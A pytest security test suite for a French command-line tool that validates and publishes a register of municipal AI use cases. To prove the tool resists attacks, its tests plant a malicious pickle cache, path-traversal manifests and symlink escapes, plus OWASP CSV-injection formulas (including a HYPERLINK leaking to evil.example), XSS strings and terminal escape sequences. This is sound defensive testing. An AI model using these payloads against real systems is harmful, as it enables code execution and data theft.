"""A data repository and an output folder are untrusted input: one test per attack of the issue
"nothing runs, nothing escapes, nothing goes stale", each written first as a reproducer.

Everything goes through the command line (the typer application, in process), on a copy of this
project's real records, as a contributor's merge request would reach CI.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT

RECORD = "data/cas-usage/sicoval-detection-fuites-eau.yaml"
IDENT = "sicoval-detection-fuites-eau"
ESC = "\x1b"


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _set_line(path: Path, key: str, line: str) -> None:
    """Replace the value of the top-level ``key`` (a one-line value or an indented block) by ``line``."""
    lines = path.read_text(encoding="utf-8").split("\n")
    start = next(i for i, ln in enumerate(lines) if ln.startswith(f"{key}:"))
    end = start + 1
    while end < len(lines) and lines[end].startswith("  "):
        end += 1
    lines[start:end] = [f"{key}: {line}"]
    path.write_text("\n".join(lines), encoding="utf-8")


def _json(result) -> dict:
    return json.loads(result.stdout)


def _with_request_channel(repo: Path) -> Path:
    """Give every collectivité of the copy an address for requests, as a publishable register has.

    A use-case page that says nowhere where to send a request is a finding of ``register build``
    (exit 1), and no collectivité of data/ declares one: with it, a clean build exits 0.
    """
    for path in sorted((repo / "data" / "collectivites").glob("*.yaml")):
        text = path.read_text(encoding="utf-8")
        path.write_text(text.rstrip("\n") + "\ncontact_droits: acces@example.org\n", encoding="utf-8")
    return repo


# ---------------------------------------------------------------- 1. nothing from the repository runs


class _Payload:
    """Unpickling this creates a folder: proof that code from the repository ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.mkdir, (str(self.marker),))


def test_poisoned_template_cache_in_the_repository_never_runs(cli, repo_copy, tmp_path):
    """Bytecode caches of Jinja2 are pickles: a poisoned one committed with `git add -f` used to run on the
    next `register build`. iaterr keeps no compiled template on disk now (only in memory, for the run)."""
    from jinja2.bccache import FileSystemBytecodeCache, bc_magic

    marker = tmp_path / "PWNED"
    poison = bc_magic + pickle.dumps(_Payload(marker), 2)
    folder = repo_copy / ".iaterr-cache" / "gabarits"
    folder.mkdir(parents=True)
    cache = FileSystemBytecodeCache(str(folder))
    templates = Path(__import__("iaterr").__file__).parent / "templates"
    for path in templates.rglob("*.j2"):
        name = path.relative_to(templates.parent).as_posix().split("/", 1)[1]
        for template_name in (name, path.relative_to(templates).as_posix()):
            key = cache.get_cache_key(template_name, str(path))
            (folder / (cache.pattern % key)).write_bytes(poison)
    (repo_copy / ".iaterr-cache" / "validate.json").write_bytes(pickle.dumps(_Payload(marker)))
    (repo_copy / ".iaterr-cache" / "site.json").write_bytes(pickle.dumps(_Payload(marker)))
    for args in (("register", "build", "--repo", str(repo_copy)), ("validate", "--repo", str(repo_copy)),
                 ("export", "--repo", str(repo_copy), "--json"), ("lint", "--repo", str(repo_copy))):
        result = cli(*args)
        assert result.exit_code in (0, 1), (args, result.output)
        assert not marker.exists(), args


def test_no_code_is_deserialised_anywhere():
    """No module of iaterr loads pickles, marshalled code or Jinja2 bytecode, nor evaluates text. (The templates'
    compiled code is kept in memory as code objects, for one run: never turned into bytes nor read back.)"""
    forbidden = ("pickle.load", "pickle.loads", "marshal.load", "BytecodeCache", "yaml.load(", "yaml.unsafe_load",
                 "eval(", "exec(", "shelve.")
    for path in (ROOT / "src" / "iaterr").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for word in forbidden:
            assert word not in text, f"{path.relative_to(ROOT)}: {word}"


# ---------------------------------------------------------------- 2. nothing outside is deleted


def test_site_manifest_cannot_delete_files_outside(cli, repo_copy, tmp_path):
    victim = tmp_path / "victime.txt"
    victim.write_text("à garder", encoding="utf-8")
    other = repo_copy / "data" / "collectivites" / "sicoval.yaml"
    site = repo_copy / "site"
    site.mkdir()
    (site / ".iaterr-site.json").write_text(json.dumps({"iaterr": "0.1.0", "langue": "fr", "pages": {
        str(victim): "x", "../data/collectivites/sicoval.yaml": "x", str(other): "x",
        "../../victime.txt": "x"}}), encoding="utf-8")
    result = cli("register", "build", "--repo", str(repo_copy))
    assert result.exit_code in (0, 1), result.output
    assert victim.read_text(encoding="utf-8") == "à garder"
    assert other.is_file()


# ---------------------------------------------------------------- 3. nothing outside is read


def test_symlinked_record_is_reported_not_read_exported_or_published(cli, repo_copy, tmp_path):
    outside = tmp_path / "ailleurs"
    outside.mkdir()
    secret = (repo_copy / RECORD).read_text(encoding="utf-8").replace(IDENT, "lien").replace(
        "Expérimentation IA pour la détection des fuites d'eau", "SECRET-VENU-D-AILLEURS")
    (outside / "lien.yaml").write_text(secret, encoding="utf-8")
    (repo_copy / "data/cas-usage/lien.yaml").symlink_to(outside / "lien.yaml")
    (repo_copy / "data/cas-usage/dossier-lien").symlink_to(outside, target_is_directory=True)

    result = cli("validate", "--repo", str(repo_copy), "--format", "json", "--no-cache")
    assert result.exit_code == 1
    links = [d for d in _json(result)["diagnostics"] if d["code"] == "lien-symbolique"]
    assert {d["fichier"] for d in links} == {"data/cas-usage/lien.yaml", "data/cas-usage/dossier-lien"}
    assert str(outside / "lien.yaml") in links[0]["message"] + links[1]["message"]
    assert "SECRET-VENU-D-AILLEURS" not in result.stdout

    exported = cli("export", "--repo", str(repo_copy), "--json")
    assert "SECRET-VENU-D-AILLEURS" not in exported.stdout
    lone = cli("validate", "--repo", str(repo_copy), "--format", "json", str(repo_copy / "data/cas-usage/lien.yaml"))
    assert lone.exit_code == 1 and "lien-symbolique" in lone.stdout
    built = cli("register", "build", "--repo", str(repo_copy))
    assert built.exit_code in (0, 1)
    assert not (repo_copy / "site/cas/lien.html").exists()
    assert "SECRET-VENU-D-AILLEURS" not in "".join(
        p.read_text(encoding="utf-8", errors="replace") for p in (repo_copy / "site").rglob("*") if p.is_file())


def test_symlinked_configuration_is_refused(cli, repo_copy, tmp_path):
    elsewhere = tmp_path / "iaterr.yaml"
    shutil.move(repo_copy / "iaterr.yaml", elsewhere)
    (repo_copy / "iaterr.yaml").symlink_to(elsewhere)
    result = cli("validate", "--repo", str(repo_copy))
    assert result.exit_code == 2 and "lien symbolique" in result.stderr and "Traceback" not in result.output


# ---------------------------------------------------------------- 4. nothing is written outside


def test_symlink_in_the_site_folder_is_refused(cli, repo_copy, tmp_path):
    cli("register", "build", "--repo", str(repo_copy))
    elsewhere = tmp_path / "ailleurs"
    elsewhere.mkdir()
    assets = repo_copy / "site/assets"
    shutil.rmtree(assets)
    assets.symlink_to(elsewhere, target_is_directory=True)
    result = cli("register", "build", "--repo", str(repo_copy))
    assert result.exit_code == 2, result.output
    assert "lien symbolique" in result.stderr
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("where", ["repo", "parent", "data", "git", "foreign"])
def test_register_refuses_an_output_folder_it_must_not_replace(cli, repo_copy, where):
    (repo_copy / ".git").mkdir()
    (repo_copy / "autre").mkdir()
    (repo_copy / "autre" / "notes.txt").write_text("à garder", encoding="utf-8")
    out = {"repo": repo_copy, "parent": repo_copy.parent, "data": repo_copy / "data" / "x",
           "git": repo_copy / ".git" / "site", "foreign": repo_copy / "autre"}[where]
    before = sorted(str(p) for p in repo_copy.rglob("*"))
    result = cli("register", "build", "--repo", str(repo_copy), "--out", str(out))
    assert result.exit_code == 2, result.output
    assert sorted(str(p) for p in repo_copy.rglob("*")) == before


@pytest.mark.parametrize("target", [".git/HEAD", RECORD, "data/cas-usage/nouveau.csv", "data"])
def test_export_refuses_an_output_file_it_must_not_write(cli, repo_copy, target):
    (repo_copy / ".git").mkdir(exist_ok=True)
    (repo_copy / ".git/HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    path = repo_copy / target
    before = path.read_bytes() if path.is_file() else None
    for command in (("export", "--json"), ("notice", IDENT), ("mention", IDENT)):
        result = cli(*command, "--repo", str(repo_copy), "--out", str(path))
        assert result.exit_code == 2, (command, result.output)
        assert "Traceback" not in result.output
        assert (path.read_bytes() if path.is_file() else None) == before
    assert not (repo_copy / "data/cas-usage/nouveau.csv").exists()


def test_export_refuses_to_write_through_a_link(cli, repo_copy, tmp_path):
    victim = tmp_path / "victime.txt"
    victim.write_text("à garder", encoding="utf-8")
    link = repo_copy / "registre.csv"
    link.symlink_to(victim)
    result = cli("export", "--repo", str(repo_copy), "--csv", "--out", str(link))
    assert result.exit_code == 2 and victim.read_text(encoding="utf-8") == "à garder"


# ---------------------------------------------------------------- 5. no formula reaches a spreadsheet

#: OWASP "CSV Injection" payloads, and variants (leading spaces, full-width signs)
OWASP = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?leak=\"&A1, \"Cliquez\")", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "\u00a0=1+1", "=1+1;\"quoted\"", "＝1+1", "＋1", "－1+cmd", "＠SUM(1)",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]


def _dangerous(cell: str) -> bool:
    if re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell):
        return False  # a number is no formula
    return cell.lstrip(" \u00a0\t\r\n")[:1] in set("=+-@＝＋－＠") or cell[:1] in set("=+-@\t\r\n")


def test_the_cell_encoder_neutralises_the_owasp_list_for_a_real_csv_reader():
    from iaterr.base.text import csv_line

    line = csv_line(["ok", *OWASP, "-0.5844559", "42"])
    rows = list(csv.reader(io.StringIO(line + "\n")))
    assert len(rows) == 1 and len(rows[0]) == len(OWASP) + 3
    cells = rows[0]
    assert cells[0] == "ok" and cells[-2:] == ["-0.5844559", "42"]  # numbers stay numbers
    for payload, cell in zip(OWASP, cells[1:-2]):
        assert cell.startswith("'") and cell.replace("'", "") == payload.replace("'", ""), (payload, cell)
        assert not _dangerous(cell)
        # read by a spreadsheet that splits on ";" or tabs, or breaks rows at line breaks: still no formula
        for piece in re.split(r"[;\t\r\n]", cell):
            assert not _dangerous(piece) or piece.startswith("'"), (payload, piece)


def test_carriage_return_and_formula_e_mail_are_refused(cli, repo_copy):
    _set_line(repo_copy / RECORD, "description", '"\\r=cmd|\' /C calc\'!A0 texte"')
    coll = repo_copy / "data/collectivites/sicoval.yaml"
    text = coll.read_text(encoding="utf-8")
    key = "contact:" if "\ncontact:" in text else "nom:"
    coll.write_text(text + ("contact_droits" if key == "nom:" else "contact_droits") +
                    ": \"=cmd|'/Ccalc'!A0@evil.fr\"\n", encoding="utf-8")
    result = cli("validate", "--repo", str(repo_copy), "--format", "json", "--no-cache")
    codes = {(d["fichier"], d["code"]) for d in _json(result)["diagnostics"]}
    assert (RECORD, "caractere-controle") in codes
    assert ("data/collectivites/sicoval.yaml", "email-invalide") in codes


def _every_csv(cli, root: Path) -> dict[str, str]:
    out = {}
    for fmt in ("csv", "bibliotheque"):
        result = cli("export", "--repo", str(root), "--format", fmt)
        assert result.exit_code in (0, 1), result.output
        out[fmt] = result.stdout
    built = cli("register", "build", "--repo", str(root))
    assert built.exit_code in (0, 1), built.output
    out["site"] = (root / "site/donnees/cas-usage.csv").read_text(encoding="utf-8")
    return out


def test_every_csv_output_neutralises_formulas(cli, repo_copy):
    path = repo_copy / RECORD
    _edit(path, "  - Leakmited\n  - Réseau 31", "  - \"=HYPERLINK(\\\"http://evil.example\\\")\"\n  - \"@SUM(1+9)\"\n"
                                                 "  - \"+33 1 23 45 67 89\"\n  - Réseau 31")
    _edit(path, "nom: Expérimentation IA pour la détection des fuites d'eau", "nom: \"-2+3+cmd|' /C calc'!A0\"")
    _edit(path, "  - Réseau 31", "  - \"ACME ;@SUM(1+1)*cmd|' /C calc'!A0;\"\n  - \"Tab\\t=1+1\"\n  - Réseau 31")
    _set_line(path, "finalite", '" =1+1 puis du texte, \\"cité\\""')
    check = cli("validate", "--repo", str(repo_copy), "--format", "json", "--no-cache", str(path))
    assert check.exit_code == 0, check.stdout
    n_records = len(list((repo_copy / "data/cas-usage").glob("*.yaml")))
    for name, text in _every_csv(cli, repo_copy).items():
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) == n_records + 1, name  # no row split
        assert len({len(row) for row in rows}) == 1, name  # no cell split
        for row in rows:
            for cell in row:
                assert not _dangerous(cell), (name, cell)
        # a French spreadsheet splits on ";", some tools on tabs: the hostile line must not give a formula either
        hostile = [line for line in text.splitlines() if "ACME" in line]
        assert hostile, name
        for delimiter in (";", "\t"):
            for row in csv.reader(io.StringIO(hostile[0]), delimiter=delimiter):
                for cell in row:
                    assert not _dangerous(cell), (name, delimiter, cell)
        joined = "\n".join(",".join(r) for r in rows)
        assert "'=HYPERLINK" in joined or name == "bibliotheque", name
        assert "'-2+3+cmd" in joined, name


# ---------------------------------------------------------------- 6. no live HTML in the Markdown notice


def test_markdown_notice_holds_no_live_html(cli, repo_copy):
    from markdown_it import MarkdownIt

    hostile = 'https://www.leakmited.com/"><script>alert(1)</script>'
    _edit(repo_copy / RECORD, "url_informations: https://www.leakmited.com/", f"url_informations: '{hostile}'")
    _set_line(repo_copy / RECORD, "finalite", "'<img src=x onerror=alert(2)> [clic](javascript:alert(3))'")
    result = cli("notice", IDENT, "--repo", str(repo_copy))
    assert result.exit_code in (0, 1), result.output
    html = MarkdownIt("commonmark", {"html": True}).render(result.stdout)
    assert "<script" not in html and "<img" not in html and "javascript:" not in html.replace("javascript:alert(3)", "")
    assert 'href="javascript' not in html
    mention = cli("mention", IDENT, "--repo", str(repo_copy))
    assert "<script" not in MarkdownIt("commonmark", {"html": True}).render(mention.stdout)


# ---------------------------------------------------------------- 7. the terminal is not driven by data


def test_escape_sequences_are_shown_not_obeyed(cli, repo_copy):
    _edit(repo_copy / RECORD, "nom: Expérimentation IA pour la détection des fuites d'eau",
          'nom: "Projet \\e[2J\\e]8;;http://evil.example\\e\\\\lien\\e]8;;\\e\\\\ \\e[31mrouge"')
    (repo_copy / f"data/cas-usage/{ESC}[2J.yaml").write_text("nom: x\n", encoding="utf-8")
    for command in (("validate",), ("validate", "--format", "github"), ("validate", "--format", "json"),
                    ("lint",), ("lint", "--format", "json"), ("export", "--json"), ("notice", IDENT)):
        result = cli(*command, "--repo", str(repo_copy))
        assert result.exit_code in (0, 1, 2), (command, result.output)
        assert ESC not in result.stdout and ESC not in result.stderr, command
    shown = cli("validate", "--repo", str(repo_copy))
    assert "\\x1b" in shown.stdout


def test_direction_override_is_reported_by_lint(cli, repo_copy):
    _edit(repo_copy / RECORD, "  - Leakmited\n  - Réseau 31", "  - \"Leak\u202emited\"\n  - Réseau 31")
    result = cli("lint", "--repo", str(repo_copy), "--format", "json")
    found = [d for d in _json(result)["diagnostics"] if d["code"] == "texte-caractere-invisible"]
    assert found and found[0]["fichier"] == RECORD and "\\u202e" in found[0]["message"]
    assert "\u202e" not in result.stdout


def test_a_document_printed_on_a_terminal_shows_invisible_characters(repo_copy):
    """Through a real pseudo-terminal: what reaches the screen carries no raw control character."""
    import pty

    _edit(repo_copy / RECORD, "  - Leakmited\n  - Réseau 31", "  - \"Leak\u202emited\"\n  - Réseau 31")
    master, slave = pty.openpty()
    env = {**os.environ, "NO_COLOR": "1"}
    proc = subprocess.Popen([sys.executable, "-m", "iaterr", "notice", IDENT, "--repo", str(repo_copy)],
                            stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, env=env)
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    proc.wait(timeout=60)
    os.close(master)
    screen = b"".join(chunks).decode("utf-8", "replace")
    assert "Leak" in screen and "\u202e" not in screen and "\\u202e" in screen


# ---------------------------------------------------------------- 8. nothing goes stale


def test_same_size_edit_with_the_same_times_is_seen(cli, repo_copy):
    path = repo_copy / RECORD
    assert cli("validate", "--repo", str(repo_copy)).exit_code == 0
    st = path.stat()
    text = path.read_text(encoding="utf-8")
    edited = text.replace("statut: en_deploiement", "statut: en_deploiemenX")
    assert len(edited.encode()) == len(text.encode())
    path.write_text(edited, encoding="utf-8")
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))  # as `cp -p`, `rsync -t`, `touch -r` leave it
    assert path.stat().st_size == st.st_size and path.stat().st_mtime_ns == st.st_mtime_ns
    result = cli("validate", "--repo", str(repo_copy), "--format", "json")
    assert result.exit_code == 1
    assert any(d["code"] == "valeur-inconnue" for d in _json(result)["diagnostics"])


def test_restored_copy_with_preserved_times_is_seen_by_the_register(cli, repo_copy, tmp_path):
    _with_request_channel(repo_copy)
    path = repo_copy / RECORD
    assert cli("register", "build", "--repo", str(repo_copy)).exit_code == 0
    copy = tmp_path / "copie.yaml"
    text = path.read_text(encoding="utf-8")
    copy.write_text(text.replace("Leakmited\n", "Leakmitex\n", 1), encoding="utf-8")
    st = path.stat()
    os.utime(copy, ns=(st.st_atime_ns, st.st_mtime_ns))
    shutil.copy2(copy, path)  # `cp -p` of a same-size file
    assert path.stat().st_size == st.st_size and path.stat().st_mtime_ns == st.st_mtime_ns
    assert cli("register", "build", "--repo", str(repo_copy)).exit_code == 0
    assert "Leakmitex" in (repo_copy / f"site/cas/{IDENT}.html").read_text(encoding="utf-8")
    assert "Leakmitex" in (repo_copy / "site/donnees/cas-usage.csv").read_text(encoding="utf-8")


def test_validating_one_file_keeps_the_cache_of_the_others(cli, repo_copy):
    assert cli("validate", "--repo", str(repo_copy)).exit_code == 0
    cli("validate", "--repo", str(repo_copy), str(repo_copy / RECORD))  # what the pre-commit hook runs
    again = _json(cli("validate", "--repo", str(repo_copy), "--format", "json"))
    assert again["resume"]["fichiers_relus"] == 0


def test_recent_files_are_hashed_not_trusted():
    """An entry recorded within the timestamp granularity of the file's last change proves nothing."""
    from iaterr.check.cache import RACY_NS, Entry, Stamp

    stamp = Stamp(10, 1_000, 1_000, 5, 7)
    entry = Entry("x", stamp, 1_000 + RACY_NS - 1, "h", "cas_usage", [], {})
    assert not entry.proven(stamp)
    assert Entry("x", stamp, 1_000 + RACY_NS + 1, "h", "cas_usage", [], {}).proven(stamp)
    assert not Entry("x", stamp, 10**19, "h", "cas_usage", [], {}).proven(Stamp(10, 1_000, 2_000, 5, 7))


# ---------------------------------------------------------------- 9. no half-updated site, no litter


def test_interrupted_build_leaves_the_previous_site_whole(repo_copy, monkeypatch):
    from iaterr.publish.site import build as build_module
    from iaterr.repo.config import open_repository

    repo = open_repository(repo_copy)
    out = repo_copy / "site"
    build_module.build_site(repo, out)
    before = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    _edit(repo_copy / RECORD, "statut: en_deploiement", "statut: termine")

    def killed(*args, **kwargs):
        raise KeyboardInterrupt

    # interrupted once the changed record's page is written into the staging folder, then while the open data
    # are written: the previous site stays whole, nothing of the new one is left
    for where in ("_accepted", "csv_chunks"):
        with monkeypatch.context() as patch:
            patch.setattr(build_module, where, killed)
            with pytest.raises(KeyboardInterrupt):
                build_module.build_site(repo, out)
        after = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
        assert after == before, where
        assert not [p for p in repo_copy.iterdir() if p.name.startswith(".iaterr-tmp")], where


def test_leftovers_of_a_killed_run_are_ignored_then_removed(cli, repo_copy):
    _with_request_channel(repo_copy)
    dead = 2**22 + 12345  # no such process
    litter = repo_copy / f"data/cas-usage/.iaterr-tmp-{dead}-0a1b2c3d-{IDENT}.yaml"
    litter.write_text("", encoding="utf-8")
    staging = repo_copy / f".iaterr-tmp-{dead}-0a1b2c3d-site"
    (staging / "cas").mkdir(parents=True)
    (staging / "cas" / "vide.html").write_text("", encoding="utf-8")
    result = cli("validate", "--repo", str(repo_copy), "--format", "json")
    assert result.exit_code == 0 and ".iaterr-tmp" not in result.stdout
    assert not litter.exists()
    assert cli("register", "build", "--repo", str(repo_copy)).exit_code == 0
    assert not staging.exists() and not (repo_copy / "site/cas/vide.html").exists()


def test_init_ignores_temporary_files(cli, tmp_path):
    if shutil.which("git") is None:
        pytest.skip("git n'est pas installé")
    target = tmp_path / "registre"
    assert cli("init", str(target), "--non-interactif").exit_code == 0
    (target / "data/cas-usage/.iaterr-tmp-1-ab-x.yaml").write_text("", encoding="utf-8")
    ignored = subprocess.run(["git", "check-ignore", "-q", "data/cas-usage/.iaterr-tmp-1-ab-x.yaml"], cwd=target)
    assert ignored.returncode == 0


# ---------------------------------------------------------------- and the rest


def test_identifier_that_is_a_path_is_refused_cleanly(cli, repo_copy):
    result = cli("new", "--repo", str(repo_copy), "--non-interactif", "--set", "identifiant=/abs",
                 "--set", "nom=Un projet", "--set", "collectivite=sicoval", "--set", "statut=en_service",
                 "--set", "theme=transition_ecologique", "--set", "description=" + "Une description. " * 8)
    assert result.exit_code in (1, 2), result.output
    assert "Traceback" not in result.output and "interne" not in result.output
    assert not Path("/abs.yaml").exists() and not (repo_copy / "data/cas-usage/abs.yaml").exists()


@pytest.mark.parametrize("name", ["nul", "con", "com1", "lpt9", "aux", "prn"])
def test_windows_reserved_identifiers_are_refused(cli, repo_copy, name):
    path = repo_copy / RECORD
    new = repo_copy / f"data/cas-usage/{name}.yaml"
    new.write_text(path.read_text(encoding="utf-8").replace(f"identifiant: {IDENT}", f"identifiant: {name}"),
                   encoding="utf-8")
    path.unlink()
    result = cli("validate", "--repo", str(repo_copy), "--format", "json", "--no-cache")
    assert any(d["code"] == "identifiant-invalide" and d["fichier"] == f"data/cas-usage/{name}.yaml"
               for d in _json(result)["diagnostics"])


@pytest.mark.parametrize("suffix", [".YAML", ".Yml", ".yAml"])
def test_upper_case_extensions_are_reported_not_ignored(cli, repo_copy, suffix):
    path = repo_copy / RECORD
    path.rename(path.with_suffix(suffix))
    result = cli("validate", "--repo", str(repo_copy), "--format", "json")
    assert result.exit_code == 1
    found = [d for d in _json(result)["diagnostics"] if d["code"] == "extension-non-reconnue"]
    assert found and found[0]["fichier"].endswith(suffix)


def _restricted_markers(repo_copy: Path) -> list[str]:
    """Plant a marker in restricted fields of a use case, some of them invalid so that validate and lint
    have something to say about them."""
    markers = ["SECRET-CONTACT-9f3a", "SECRET-ALGO-7c1e", "SECRET-FINANCEMENT-2b8d", "SECRET-RISQUE-5e6f"]
    _edit(repo_copy / RECORD, "\n# --- Identification ---", "\n# --- Identification ---")
    text = (repo_copy / RECORD).read_text(encoding="utf-8")
    text += (f"contact: {markers[0]}@@mairie\n"  # invalid e-mail
             f"nom_algorithme: [{markers[1]}]\n"  # a list where text is expected
             f"financements:\n  - {markers[2]}\n"
             f"evaluation_risques: \"{markers[3]} \\e[2J\"\n"  # a control character
             f"budget: {markers[3]}-budget\n")  # not in the vocabulary
    (repo_copy / RECORD).write_text(text, encoding="utf-8")
    return markers


def test_diagnostics_never_quote_restricted_values(cli, repo_copy):
    markers = _restricted_markers(repo_copy)
    outputs = []
    for command in ("validate", "lint"):
        for fmt in ("text", "json", "github"):
            result = cli(command, "--repo", str(repo_copy), "--format", fmt, "--no-cache")
            assert result.exit_code == 1, (command, fmt, result.output)
            outputs.append(result.stdout + result.stderr)
    joined = "\n".join(outputs)
    assert "contact" in joined and "budget" in joined  # the problems are reported…
    for marker in markers:
        assert marker not in joined, marker  # …without their values


def test_published_pages_show_direction_overrides_instead_of_obeying_them(cli, repo_copy):
    """Lint reports the character; the pages and notices iaterr writes never let it reorder their text."""
    _with_request_channel(repo_copy)
    _edit(repo_copy / RECORD, "nom: Expérimentation IA pour la détection des fuites d'eau",
          'nom: "Détection \u202eseuf sed"')
    html = cli("notice", IDENT, "--repo", str(repo_copy), "--format", "html")
    assert "\u202e" not in html.stdout and "\\u202e" in html.stdout
    assert cli("register", "build", "--repo", str(repo_copy)).exit_code == 0
    for page in ("index.html", f"cas/{IDENT}.html"):
        text = (repo_copy / "site" / page).read_text(encoding="utf-8")
        assert "\u202e" not in text and "\\u202e" in text, page


def test_outputs_through_a_committed_folder_link_are_refused(cli, repo_copy, tmp_path):
    """A merge request replaces a folder the CI writes to by a link to .git, data/ or elsewhere."""
    (repo_copy / ".git").mkdir()
    (repo_copy / ".git/config").write_text("[core]\n", encoding="utf-8")
    victim = tmp_path / "ailleurs"
    victim.mkdir()
    (repo_copy / "pub-git").symlink_to(repo_copy / ".git", target_is_directory=True)
    (repo_copy / "pub-data").symlink_to(repo_copy / "data/cas-usage", target_is_directory=True)
    (repo_copy / "pub-out").symlink_to(victim, target_is_directory=True)
    before = (repo_copy / RECORD).read_bytes()
    for command in (("export", "-o", "pub-git/config"), ("export", "-o", f"pub-data/{IDENT}.yaml"),
                    ("mention", IDENT, "-o", "pub-out/mention.md"), ("register", "build", "--out", "pub-git/site"),
                    ("register", "build", "--out", "pub-data/site"), ("register", "build", "--out", "pub-out/site")):
        args = [a if not a.startswith("pub-") else str(repo_copy / a) for a in command]
        result = cli(*args, "--repo", str(repo_copy))
        assert result.exit_code == 2, (command, result.output)
    assert (repo_copy / ".git/config").read_text(encoding="utf-8") == "[core]\n"
    assert (repo_copy / RECORD).read_bytes() == before
    assert list(victim.iterdir()) == [] and not (repo_copy / ".git/site").exists()


def test_init_does_not_copy_a_linked_configuration_into_the_repository(cli, tmp_path):
    secret = tmp_path / "hosts.yml"
    secret.write_text("github.com:\n    oauth_token: gho_SECRET\n", encoding="utf-8")
    target = tmp_path / "registre"
    target.mkdir()
    (target / "iaterr.yaml").symlink_to(secret)
    result = cli("init", str(target), "--nom", "Ville de Testville", "--type", "commune", "--no-git",
                 "--non-interactif")
    assert result.exit_code == 2, result.output
    assert (target / "iaterr.yaml").is_symlink() and "gho_SECRET" not in result.output
    assert secret.read_text(encoding="utf-8") == "github.com:\n    oauth_token: gho_SECRET\n"


def test_fixes_and_diffs_never_show_restricted_values(cli, repo_copy):
    from conftest import not_public

    not_public(repo_copy)  # a private repository: its records hold their restricted values
    _set_line(repo_copy / RECORD, "nom_algorithme", '"SECRETNOMALGO  confidentiel "')
    _set_line(repo_copy / RECORD, "evaluation_risques", ">-\n  SECRETRISQUE  premier   texte\n  sur deux lignes")
    _set_line(repo_copy / RECORD, "contact", '"secret.contact@example.fr"')
    outputs = []
    for args in (("--diff",), ("--diff", "-f", "github"), ("--fix", "-f", "json"), ("--diff",)):
        result = cli("lint", "--repo", str(repo_copy), *args, str(repo_copy / RECORD))
        assert result.exit_code in (0, 1), result.output
        outputs.append(result.stdout + result.stderr)
    joined = "\n".join(outputs)
    assert "nom_algorithme" in joined  # the fix is said…
    for secret in ("SECRETNOMALGO", "SECRETRISQUE", "secret.contact"):
        assert secret not in joined, secret  # …without the value
    assert "SECRETNOMALGO confidentiel" in (repo_copy / RECORD).read_text(encoding="utf-8")  # and made


def test_a_file_name_that_is_not_utf8_is_reported_not_a_crash(cli, repo_copy):
    name = os.fsencode(str(repo_copy / "data/cas-usage")) + b"/bad-\xff\xfe-name.yaml"
    shutil.copy(repo_copy / RECORD, name)
    for args in (("validate",), ("validate", "--format", "json"), ("lint",), ("export", "--json")):
        result = cli(*args, "--repo", str(repo_copy))
        assert result.exit_code == 1, (args, result.output)
        assert "Erreur interne" not in result.output and "Traceback" not in result.output
    shown = cli("validate", "--repo", str(repo_copy), "--format", "json")
    assert any(d["code"] == "nom-fichier-invalide" and "\\udcff" in d["fichier"] for d in _json(shown)["diagnostics"])


def test_the_register_title_change_rebuilds_every_page(cli, repo_copy):
    _with_request_channel(repo_copy)
    assert cli("register", "build", "--repo", str(repo_copy)).exit_code == 0
    config = repo_copy / "iaterr.yaml"
    config.write_text(config.read_text(encoding="utf-8") + 'nom: "Registre NOUVEAU TITRE"\n', encoding="utf-8")
    assert cli("register", "build", "--repo", str(repo_copy)).exit_code == 0
    assert "Registre NOUVEAU TITRE" in (repo_copy / f"site/cas/{IDENT}.html").read_text(encoding="utf-8")


def test_generated_files_are_not_written_through_a_committed_link(cli, repo_copy, tmp_path):
    victim = tmp_path / "ailleurs"
    victim.mkdir()
    shutil.rmtree(repo_copy / "schema")
    (repo_copy / "schema").symlink_to(victim, target_is_directory=True)
    (repo_copy / "docs").symlink_to(victim, target_is_directory=True)
    for args in (("schema",), ("reference",), ("rules", "--doc"), ("reference", "--exemples")):
        result = cli(*args, "--repo", str(repo_copy))
        assert result.exit_code == 2 and "lien symbolique" in result.stderr, (args, result.output)
    assert list(victim.iterdir()) == []


def test_a_file_replaced_after_it_was_listed_is_not_read():
    """The inode seen when listing must be the one opened (a folder on the way swapped for a link)."""
    from iaterr.base.files import UnsafePath, read_regular

    path = ROOT / RECORD
    with pytest.raises(UnsafePath) as caught:
        read_regular(path, inode=os.stat(path).st_ino + 1)
    assert caught.value.reason == "remplace"
    assert read_regular(path, inode=os.stat(path).st_ino).startswith(b"# yaml-language-server")


def test_nothing_inside_a_temporary_folder_is_read(cli, repo_copy):
    folder = repo_copy / f"data/cas-usage/.iaterr-tmp-{os.getpid()}-abcd-x"
    folder.mkdir()
    (folder / "cache.yaml").write_text((repo_copy / RECORD).read_text(encoding="utf-8").replace(
        "Expérimentation IA pour la détection des fuites d'eau", "Fiche cachée"), encoding="utf-8")
    result = cli("export", "--repo", str(repo_copy), "--json")
    assert "Fiche cachée" not in result.stdout and len(json.loads(result.stdout)["cas_usage"]) == 30


def test_a_value_cannot_forge_lines_of_a_report(cli, repo_copy):
    _edit(repo_copy / RECORD, "statut: en_deploiement",
          'statut: "x\\n::error file=README.md,line=1::Faux\\n✓ Aucune erreur."')
    result = cli("validate", "--repo", str(repo_copy))
    assert result.exit_code == 1
    assert not any(line.startswith(("::error", "✓ Aucune")) for line in result.stdout.splitlines())


def test_an_unknown_language_is_a_message(cli):
    from iaterr.cli.main import main

    assert main(["--lang", "xx", "validate"]) == 2


